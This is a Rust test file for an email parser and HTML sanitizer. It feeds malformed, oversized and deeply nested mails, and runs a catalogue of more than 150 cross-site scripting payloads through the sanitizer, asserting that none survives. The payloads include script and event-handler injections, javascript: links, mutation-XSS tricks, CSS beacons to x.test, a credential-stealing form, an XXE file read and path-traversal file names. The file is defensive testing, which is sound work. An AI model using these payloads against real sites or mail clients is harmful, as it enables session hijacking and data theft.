//! Hostile and odd mail: nothing may panic, hang, grow without bound, or survive as something that runs.

use super::*;
use okno_model::limits::MAIL_BYTES;
use std::time::{Duration, Instant};

/// Unoptimized code on a shared machine; the bound in production is two seconds.
const PATIENCE: Duration = Duration::from_secs(if cfg!(debug_assertions) { 20 } else { 2 });

fn setting() -> Setting {
    Setting { own: vec!["help@okno.test".into()], trusted: vec!["mx.okno.test".into()], envelope_to: vec!["help@okno.test".into()] }
}

fn head(rest: &str) -> String {
    format!(
        "From: Ivan <ivan@customers.test>\r\nTo: help@okno.test\r\nMessage-ID: <1@customers.test>\r\nSubject: x\r\nMIME-Version: 1.0\r\n{rest}"
    )
}

fn html(body: &str) -> Vec<u8> {
    head(&format!("Content-Type: text/html; charset=utf-8\r\n\r\n{body}")).into_bytes()
}

/// Each with its name: what real attackers and broken programs send.
fn mails() -> Vec<(&'static str, Vec<u8>)> {
    let text = |rest: &str| head(rest).into_bytes();
    let mut mails = vec![
        ("nothing", vec![]),
        ("white space", b" \r\n\t\r\n".to_vec()),
        ("only a header", b"From: a@b.test".to_vec()),
        ("only a body", b"\r\n\r\nhello there".to_vec()),
        ("no header at all", b"hello there, this is no mail".to_vec()),
        ("bytes", (0..=255).cycle().take(100_000).collect()),
        ("NUL bytes everywhere", text("\r\nhel\0lo\0").into_iter().flat_map(|b| [b, 0]).collect()),
        ("NUL in fields", text("X-A: a\0b\r\n\r\nhi")),
        ("bare CR line ends", head("\r\nhi").replace("\r\n", "\r").into_bytes()),
        ("bare LF line ends", head("\r\nhi").replace("\r\n", "\n").into_bytes()),
        ("mbox line", [b"From ivan Mon May  3 10:00:00 2021\n".as_slice(), &text("\r\nhi")].concat()),
        ("10 MB field", text(&format!("X-Long: {}\r\n\r\nhi", "x".repeat(10_000_000)))),
        ("10 MB subject of encoded words", text(&format!("Subject: {}\r\n\r\nhi", "=?utf-8?b?0LA=?= ".repeat(500_000)))),
        ("a million folded lines", text(&format!("X-Fold: a\r\n{}\r\nhi", " b\r\n".repeat(1_000_000)))),
        ("300,000 fields", text(&format!("{}\r\nhi", "X-A: b\r\n".repeat(300_000)))),
        ("100,000 recipients", text(&format!("Cc: {}z@x.test\r\n\r\nhi", "a@x.test, ".repeat(100_000)))),
        ("recipient groups", text(&format!("Cc: {}\r\n\r\nhi", "g: a@x.test, b@x.test; ".repeat(10_000)))),
        ("nested comments in an address", text(&format!("Cc: {}a@x.test{}\r\n\r\nhi", "(".repeat(50_000), ")".repeat(50_000)))),
        ("unclosed quotes in an address", text(&format!("Cc: \"{}\r\n\r\nhi", "\\\"".repeat(50_000)))),
        ("100,000 references", text(&format!("References: {}\r\n\r\nhi", "<a@b> ".repeat(100_000)))),
        ("reference with spaces and brackets", text("References: <<a b>@> <> < > <\u{200b}@x>\r\nIn-Reply-To: >><<\r\n\r\nhi")),
        ("date of the year 99999", text("Date: Mon, 99 Foo 99999 99:99:99 +9999\r\n\r\nhi")),
        ("date before time", text("Date: Mon, 1 Jan 1900 00:00:00 +0000\r\n\r\nhi")),
        ("unknown charset", text("Content-Type: text/plain; charset=\"x-klingon\"\r\n\r\n\u{fffd}\u{7f}hi")),
        ("charset of control characters", text("Content-Type: text/plain; charset=\"\x01\x02\"\r\n\r\nhi")),
        ("UTF-7 that hides markup", text("Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-")),
        ("UTF-16 without a mark", text("Content-Type: text/html; charset=utf-16\r\n\r\n").into_iter().chain("<script>alert(1)</script>".encode_utf16().flat_map(u16::to_be_bytes)).collect()),
        ("broken encoded words", text("Subject: =?utf-8?b?%%%?= =?x?q?=C3?= =?utf-8?x?a?= =?\r\n\r\nhi")),
        ("broken quoted-printable", text("Content-Transfer-Encoding: quoted-printable\r\n\r\n=\r\n==3D=ZZ=0=\0=C3=")),
        ("broken base64", text("Content-Transfer-Encoding: base64\r\n\r\n=====a\0b=c==\r\n--")),
        ("multipart without boundary parameter", text("Content-Type: multipart/mixed\r\n\r\n--x\r\n\r\nhi\r\n--x--")),
        ("multipart whose boundary never comes", text("Content-Type: multipart/mixed; boundary=never\r\n\r\nhi\r\n")),
        ("multipart that never ends", text("Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nhi")),
        ("empty boundary", text("Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n--\r\n\r\nhi\r\n----")),
        ("boundary of 60,000 characters", text(&format!("Content-Type: multipart/mixed; boundary={0}\r\n\r\n--{0}\r\n\r\nhi\r\n--{0}--", "b".repeat(60_000)))),
        ("the same boundary at each level", text(&format!("{0}{0}{0}{0}\r\nhi\r\n--x--", "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"))),
        ("20,000 parts of two bytes", text(&format!("Content-Type: multipart/mixed; boundary=x\r\n\r\n{}--x--", "--x\r\n\r\na\r\n".repeat(20_000)))),
        ("multiparts that search to the end", text(&format!("Content-Type: multipart/mixed; boundary=x\r\n\r\n{}--x--", (0..50_000).map(|n| format!("--x\r\nContent-Type: multipart/mixed; boundary=q{n}\r\n\r\n")).collect::<String>()))),
        ("30,000 nested messages", text(&"Content-Type: message/rfc822\r\n\r\n".repeat(30_000))),
        ("30,000 nested multiparts", text(&(0..30_000).map(|n| format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n")).collect::<String>())),
        ("nested digests", text(&(0..3_000).map(|n| format!("Content-Type: multipart/digest; boundary=b{n}\r\n\r\n--b{n}\r\n\r\n")).collect::<String>())),
        ("a report that reports itself", text("Content-Type: multipart/report; boundary=x\r\n\r\n--x\r\nContent-Type: message/delivery-status\r\n\r\nFinal-Recipient: rfc822;\r\nAction:\r\n\r\nAction: failed\r\n--x\r\nContent-Type: message/rfc822\r\n\r\n--x--")),
        ("a report of 100,000 recipients", text(&format!("Content-Type: multipart/report; boundary=x\r\n\r\n--x\r\nContent-Type: message/delivery-status\r\n\r\n{}\r\n--x--", "Final-Recipient: rfc822; a@b.test\r\nAction: failed\r\n\r\n".repeat(100_000)))),
        ("file names", text(&format!("Content-Type: multipart/mixed; boundary=x\r\n\r\n{}--x--", ["../../etc/passwd", "a\u{202e}gpj.exe", "\u{200b}\u{feff}.pdf", "con.txt", "\u{0}", "a/b\\c:d", &"n".repeat(30_000)].iter().map(|name| format!("--x\r\nContent-Type: application/pdf; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\"\r\n\r\nx\r\n")).collect::<String>()))),
        ("file name in 2,000 continuations", text(&format!("Content-Disposition: attachment; {}\r\n\r\nx", (0..2_000).map(|n| format!("filename*{n}=a; ")).collect::<String>()))),
        ("names of senders that turn around", text("From: \"\u{202e}tset.okno@pleh\u{200b}\" <ivan@customers.test>\r\n\r\nhi")),
        ("text of a million quotes", text(&format!("\r\n{}", ">".repeat(1_000_000)))),
        ("text of a million introductions", text(&format!("\r\n{}", "On 3 May 2021\r\n".repeat(100_000)))),
        ("text of 5 MB in one line", text(&format!("\r\n{}", "слово ".repeat(450_000)))),
        ("200,000 empty lines", text(&format!("\r\n{}x", "\r\n".repeat(200_000)))),
        ("nested HTML", html(&"<div>".repeat(100_000))),
        ("nested HTML tables", html(&"<table><tr><td>".repeat(50_000))),
        ("HTML formatting bomb", html(&((0..3_000).map(|n| format!("<b id={n}>")).collect::<String>() + &"<p>x".repeat(30_000)))),
        ("HTML attributes bomb", html(&format!("<p {}>", (0..100_000).map(|n| format!("a{n}=b ")).collect::<String>()))),
        ("HTML of 15 MB", html(&"<p>hello</p>".repeat(1_300_000))),
        ("HTML unclosed comment", html(&format!("hi<!--{}", "<b>".repeat(10_000)))),
        ("HTML table of 300 columns", html(&format!("<table>{}</table>", format!("<tr>{}</tr>", "<td colspan=1000>x</td>".repeat(300)).repeat(50)))),
        ("HTML wide colspan", html("<table><tr><td colspan=99999999 rowspan=99999999>x</td></tr></table>")),
        ("HTML ordered list from a huge number", html("<ol start=99999999999999999999><li>a</ol><ol start=-9><li>b</ol>")),
        ("HTML quotes in quotes", html(&"<blockquote>q".repeat(900))),
        ("HTML of entities", html(&"&#x110000;&#0;&#xD800;&lt;script&gt;&NotAnEntity;".repeat(10_000))),
        ("HTML control characters", html("<p\x0b\x0conclick=alert(1)\x00>a<\0script>b</\0script>")),
    ];
    mails.push((
        "as large as a mail may be",
        text(&format!(
            "Content-Type: application/zip; name=a.zip\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
            "QUJD".repeat((MAIL_BYTES - 1_000) / 4)
        )),
    ));
    mails
}

#[test]
fn nothing_panics_or_hangs() {
    let mails = mails();
    assert!(mails.len() >= 52, "{}", mails.len());
    for (name, raw) in mails {
        let start = Instant::now();
        let result = std::panic::catch_unwind(|| parse(&raw, &setting()));
        let took = start.elapsed();
        assert!(took < PATIENCE, "{name}: {took:?}");
        let Ok(result) = result else { panic!("{name}: panicked") };
        if let Ok(mail) = result {
            check(name, &mail);
        }
        twin(&raw);
    }
}

/// What holds of every understood mail.
#[track_caller]
fn check(name: &str, mail: &InboundMail) {
    use crate::mail::limits;
    assert!(mail.to.len() + mail.cc.len() <= 2 * 2 * RECIPIENTS && mail.delivered_to.len() <= RECIPIENTS, "{name}: recipients");
    assert!(mail.references.len() <= limits::REFERENCES, "{name}: references");
    assert!(mail.text.len() + mail.quoted.len() <= limits::TEXT_BYTES + 100, "{name}: text of {}", mail.text.len());
    assert!(mail.subject.chars().count() <= limits::SUBJECT_CHARS, "{name}: subject");
    assert!(mail.attachments.len() <= limits::FILES + 1, "{name}: {} files", mail.attachments.len());
    let strange = |text: &str| text.chars().any(|c| c.is_control() || files::is_invisible(c));
    for one in mail.to.iter().chain(&mail.cc).chain([&mail.from]) {
        assert!(!strange(&one.name) && !strange(&one.address), "{name}: {one:?}");
    }
    assert!(
        !strange(&mail.subject) && !strange(&mail.message_id) && !mail.references.iter().any(|id| id.contains(char::is_whitespace)),
        "{name}"
    );
    assert!(!mail.text.contains(|c: char| c.is_control() && c != '\n' && c != '\t'), "{name}: control characters");
    for file in &mail.attachments {
        assert!(
            !file.name.is_empty()
                && !strange(&file.name)
                && !file.name.contains(['/', '\\', '<', '"'])
                && file.name.chars().count() <= limits::FILE_NAME_CHARS + 1
                && !file.name.starts_with('.'),
            "{name}: {:?}",
            file.name
        );
    }
    if let Some(html) = &mail.html {
        harmless(name, html);
    }
}

/// The only elements and attributes that may be in cleaned HTML; everything else would be a hole.
#[track_caller]
fn harmless(name: &str, html: &str) {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let end = tag_end(rest);
        let tag = &rest[..end];
        rest = &rest[end..];
        let tag = tag.trim_start_matches('/');
        let element = tag.split([' ', '>']).next().unwrap_or_default();
        assert!(ALLOWED.contains(&element), "{name}: <{element}> in {}", &html[..html.len().min(400)]);
        for (attribute, value) in attributes(tag) {
            let value = value.to_lowercase();
            match attribute.as_str() {
                "href" => assert!(
                    ["http:", "https:", "mailto:", "tel:"].iter().any(|s| value.trim_start().starts_with(s)),
                    "{name}: href {value}"
                ),
                "src" => assert!(value.starts_with("data:image/") && !value.contains("svg"), "{name}: src {value}"),
                "data-remote-src" => assert!(value.starts_with("http"), "{name}: {value}"),
                "style" => assert!(
                    !["url", "expression", "import", "\\", "@", "javascript", "behavior", "position", "/*", "var(", "image"]
                        .iter()
                        .any(|bad| value.contains(bad)),
                    "{name}: style {value}"
                ),
                "class" => assert_eq!(value, "quote", "{name}"),
                "data-cid" | "alt" | "title" | "rel" | "target" | "dir" | "lang" | "align" | "valign" | "bgcolor" | "color" | "size"
                | "width" | "height" | "border" | "cellpadding" | "cellspacing" | "colspan" | "rowspan" | "scope" | "start" | "type" => {}
                other => panic!("{name}: attribute {other}={value}"),
            }
        }
    }
}

const ALLOWED: &[&str] = &[
    "a",
    "abbr",
    "address",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

fn tag_end(tag: &str) -> usize {
    let mut quoted = false;
    tag.char_indices()
        .find(|(_, c)| {
            quoted ^= *c == '"';
            *c == '>' && !quoted
        })
        .map_or(tag.len(), |(at, _)| at)
}

fn attributes(tag: &str) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut rest = tag.split_once(' ').map_or("", |(_, rest)| rest);
    while let Some((name, after)) = rest.split_once("=\"") {
        let (value, after) = after.split_once('"').expect("a serialized attribute is closed");
        found.push((name.trim().to_owned(), value.to_owned()));
        rest = after;
    }
    assert!(rest.trim().trim_end_matches('/').is_empty(), "attribute without a value: {rest}");
    found
}

/// Ways into a browser that have worked somewhere: each with what must not be in the result.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//x.test/a.js></sCrIpT>",
    "<script/xss>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x20type=\"text/javascript\">javascript:alert(1);</script>",
    "<script\n>alert(1)</script\n>",
    "\";alert(1);//",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img src=\" &#14; javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\">",
    "<img srcset=\"http://x.test/a 1x\">",
    "<img src=data:text/html,<script>alert(1)</script>>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:image/png;base64,x\" onload=alert(1)>",
    "<img src=//x.test/p.gif>",
    "<img src=/p.gif>",
    "<img src=\\\\x.test\\p>",
    "<img src=file:///etc/passwd>",
    "<image src=http://x.test/a>",
    "<input type=image src=http://x.test onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=\"data:image/svg+xml,x#y\"/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<iframe src=http://x.test></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)>",
    "<object data=http://x.test/a.swf>",
    "<object type=text/x-scriptlet data=http://x.test></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=http://x.test/a.svg>",
    "<applet code=x archive=http://x.test/a.jar>",
    "<portal src=javascript:alert(1)>",
    "<fencedframe src=http://x.test>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"//x.test\">x</a>",
    "<a href=\"file:///c:/\">x</a>",
    "<a href=\"blob:http://x.test/1\">x</a>",
    "<a href=\"cid:x\">x</a>",
    "<a href=\"#x\" onclick=alert(1)>x</a>",
    "<a href=http://x.test ping=http://x.test/p download=a target=_self>x</a>",
    "<a href=http://x.test style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",
    "<area href=javascript:alert(1)>",
    "<map name=x><area href=javascript:alert(1)></map>",
    "<form action=http://x.test/steal><input name=password type=password><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<video src=http://x.test/v onerror=alert(1)>",
    "<video poster=http://x.test/p.png>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=http://x.test/a onerror=alert(1)>",
    "<track src=http://x.test/t>",
    "<picture><source srcset=http://x.test/a><img></picture>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=http://x.test/a.html></layer>",
    "<body onload=alert(1)>",
    "<body background=http://x.test/b.png>",
    "<table background=http://x.test/b.png><tr><td background=javascript:alert(1)>x",
    "<link rel=stylesheet href=http://x.test/a.css>",
    "<link rel=prefetch href=http://x.test/a>",
    "<link rel=dns-prefetch href=//x.test>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=Set-Cookie content=a=b>",
    "<base href=javascript:alert(1)//>",
    "<base target=_top>",
    "<style>@import url(http://x.test/a.css);</style>",
    "<style>*{background:url(http://x.test/a)}</style>",
    "<style>input[value^=a]{background:url(http://x.test/a)}</style>",
    "<style><!--</style><script>alert(1)</script>",
    "<p style=\"background:url(http://x.test/a)\">x</p>",
    "<p style=\"background-image:url('http://x.test/a')\">x</p>",
    "<p style=\"background-color:red;background-color:url(http://x.test)\">x</p>",
    "<p style=\"color:red;b\\61ckground:url(http://x.test)\">x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"w\\69dth:exp/**/ression(alert(1))\">x</p>",
    "<p style=\"-moz-binding:url(http://x.test/a.xml#x)\">x</p>",
    "<p style=\"behavior:url(a.htc)\">x</p>",
    "<p style=\"list-style-image:url(javascript:alert(1))\">x</p>",
    "<p style=\"color:var(--x);--x:url(http://x.test)\">x</p>",
    "<p style=\"position:absolute;z-index:9\">x</p>",
    "<p style='font-family:\"a;background:url(http://x.test)\"'>x</p>",
    "<p style=\"color:rgb(1,2,3);content:attr(x)\">x</p>",
    "<p style=\"width:image-set(url(http://x.test) 1x)\">x</p>",
    "<p style='font-family:\"&quot;&gt;&lt;script&gt;'>x</p>",
    "<div style=\"animation-name:x\" onanimationstart=alert(1)>x</div>",
    "<p onclick=alert(1) onmouseover='alert(1)' onpointerrawupdate=alert(1)>x</p>",
    "<p id=__proto__ name=cookie class=admin data-x=1 is=x slot=y part=z>x</p>",
    "<form id=x><input name=attributes></form>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=1 accesskey=x>x</p>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<x onclick=alert(1)>x</x>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><p>&y;</p>",
    "<p title=\"--><script>alert(1)</script>\">x</p>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<img alt=\"`><script>alert(1)</script>\" src=cid:x>",
    "<img src=\"cid:x&quot; onerror=&quot;alert(1)\">",
    "<img src=\"http://x.test/&quot; onerror=&quot;alert(1)\">",
    "<img src=\"http://x.test/a\" alt='\" onerror=\"alert(1)'>",
    "<img src=\"okno-remote:javascript:alert(1)\">",
    "<img src=\"okno-cid:x\" onerror=alert(1)>",
    "<img data-remote-src=\"javascript:alert(1)\" data-cid=x>",
    "<img src=\"http:x.test\"><img src=\"https:/x.test\"><img src=\"http://\">",
    "<p> src=\"okno-remote:javascript:alert(1)\"</p>",
    "\u{2028}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=\"http://x.test/\" title=' src=\"okno-remote:x'>x</a>",
    "<table><tr><td style='color:red\"onclick=alert(1)'>x</td></tr></table>",
    "<ol type='\"onclick=alert(1)' start='1\" x'><li>x</ol>",
    "<font color='\"onclick=alert(1)' face=\"url(http://x.test)\">x</font>",
    "<bdo dir='rtl\" onclick=\"x'>x</bdo>",
];

#[test]
fn no_payload_survives() {
    assert!(PAYLOADS.len() >= 150, "{}", PAYLOADS.len());
    let wrappers: &[fn(&str) -> String] = &[
        |p| p.to_owned(),
        |p| format!("<div><table><tr><td>{p}</td></tr></table></div>"),
        |p| format!("<p title=\"{p}\">x</p>"),
        |p| format!("<style>{p}</style>{p}"),
        |p| format!("<svg><desc>{p}</desc></svg>"),
        |p| format!("<math><mi>{p}</mi></math>"),
        |p| format!("<!-- {p} -->{p}"),
        |p| p.replace('<', "<\0"),
    ];
    for payload in PAYLOADS {
        for wrap in wrappers {
            let raw = wrap(payload);
            let clean = html::sanitize(&raw).expect("short enough");
            harmless(&raw, &clean.html);
            // Cleaning again changes nothing that runs: what a second parser sees is harmless too.
            harmless(&raw, &html::sanitize(&clean.html.replace("data-remote-src", "src")).expect("short enough").html);
            let mail = parse(&html_mail(&raw), &setting()).expect("a mail");
            check(&raw, &mail);
        }
    }
}

fn html_mail(body: &str) -> Vec<u8> {
    html(body)
}

#[test]
fn hidden_and_loading_styles_go_and_harmless_ones_stay() {
    for (given, kept) in [
        ("color:red; font-weight:bold", "style=\"color:red;font-weight:bold\""),
        ("COLOR: RGB(1, 2, 3) !important", "style=\"color:rgb(1, 2, 3)\""),
        ("font-size:0", "<p>"),
        ("display:none", "<p>"),
        ("color:transparent", "<p>"),
        ("color:rgba(0,0,0,0)", "<p>"),
        ("margin-left:-9999px", "<p>"),
        ("text-indent:-9999px", "<p>"),
        ("margin:0 0 0 .8ex;border-left:1px solid #ccc", "margin:0 0 0 .8ex"),
    ] {
        let clean = html::sanitize(&format!("<p style=\"{given}\">x</p>")).unwrap().html;
        assert!(clean.contains(kept), "{given}: {clean}");
    }
}

/// Those that are small enough to be damaged often.
static SMALL: std::sync::LazyLock<Vec<(&str, Vec<u8>)>> =
    std::sync::LazyLock::new(|| mails().into_iter().filter(|(_, raw)| raw.len() < 4096).collect());

proptest::proptest! {
    #![proptest_config(proptest::test_runner::Config { cases: 1_000, ..proptest::test_runner::Config::default() })]

    /// Real structure with random damage finds more than random bytes do.
    #[test]
    fn damaged_mail_never_panics(which in 0_usize..1000, cuts in proptest::collection::vec((0_usize..4096, 0_u8..6, proptest::num::u8::ANY), 0..12)) {
        let small = &*SMALL;
        let (name, mut raw) = small[which % small.len()].clone();
        for (at, what, byte) in cuts {
            if raw.is_empty() {
                break;
            }
            let at = at % raw.len();
            match what {
                0 => raw.truncate(at),
                1 => raw[at] = byte,
                2 => raw.insert(at, byte),
                3 => { raw.remove(at); }
                4 => { let tail = raw[at..].to_vec(); raw.extend(tail); }
                _ => raw.splice(at..at, b"\r\n--x\r\n".iter().copied()).for_each(drop),
            }
        }
        if let Ok(mail) = parse(&raw, &setting()) {
            check(name, &mail);
        }
    }

    #[test]
    fn random_html_is_harmless(pieces in proptest::collection::vec("[<>/!\"'= ]|<[a-z]{1,8}|[a-z]{1,6}=|on[a-z]{3,8}=alert\\(1\\)|javascript:|style=\"[a-z:(); ]{0,20}\"|</[a-z]{1,8}>|<!--|-->|<svg>|<math>|<style>|&#[0-9]{1,4};", 0..60)) {
        let raw = pieces.concat();
        if let Some(clean) = html::sanitize(&raw) {
            harmless(&raw, &clean.html);
        }
    }
}
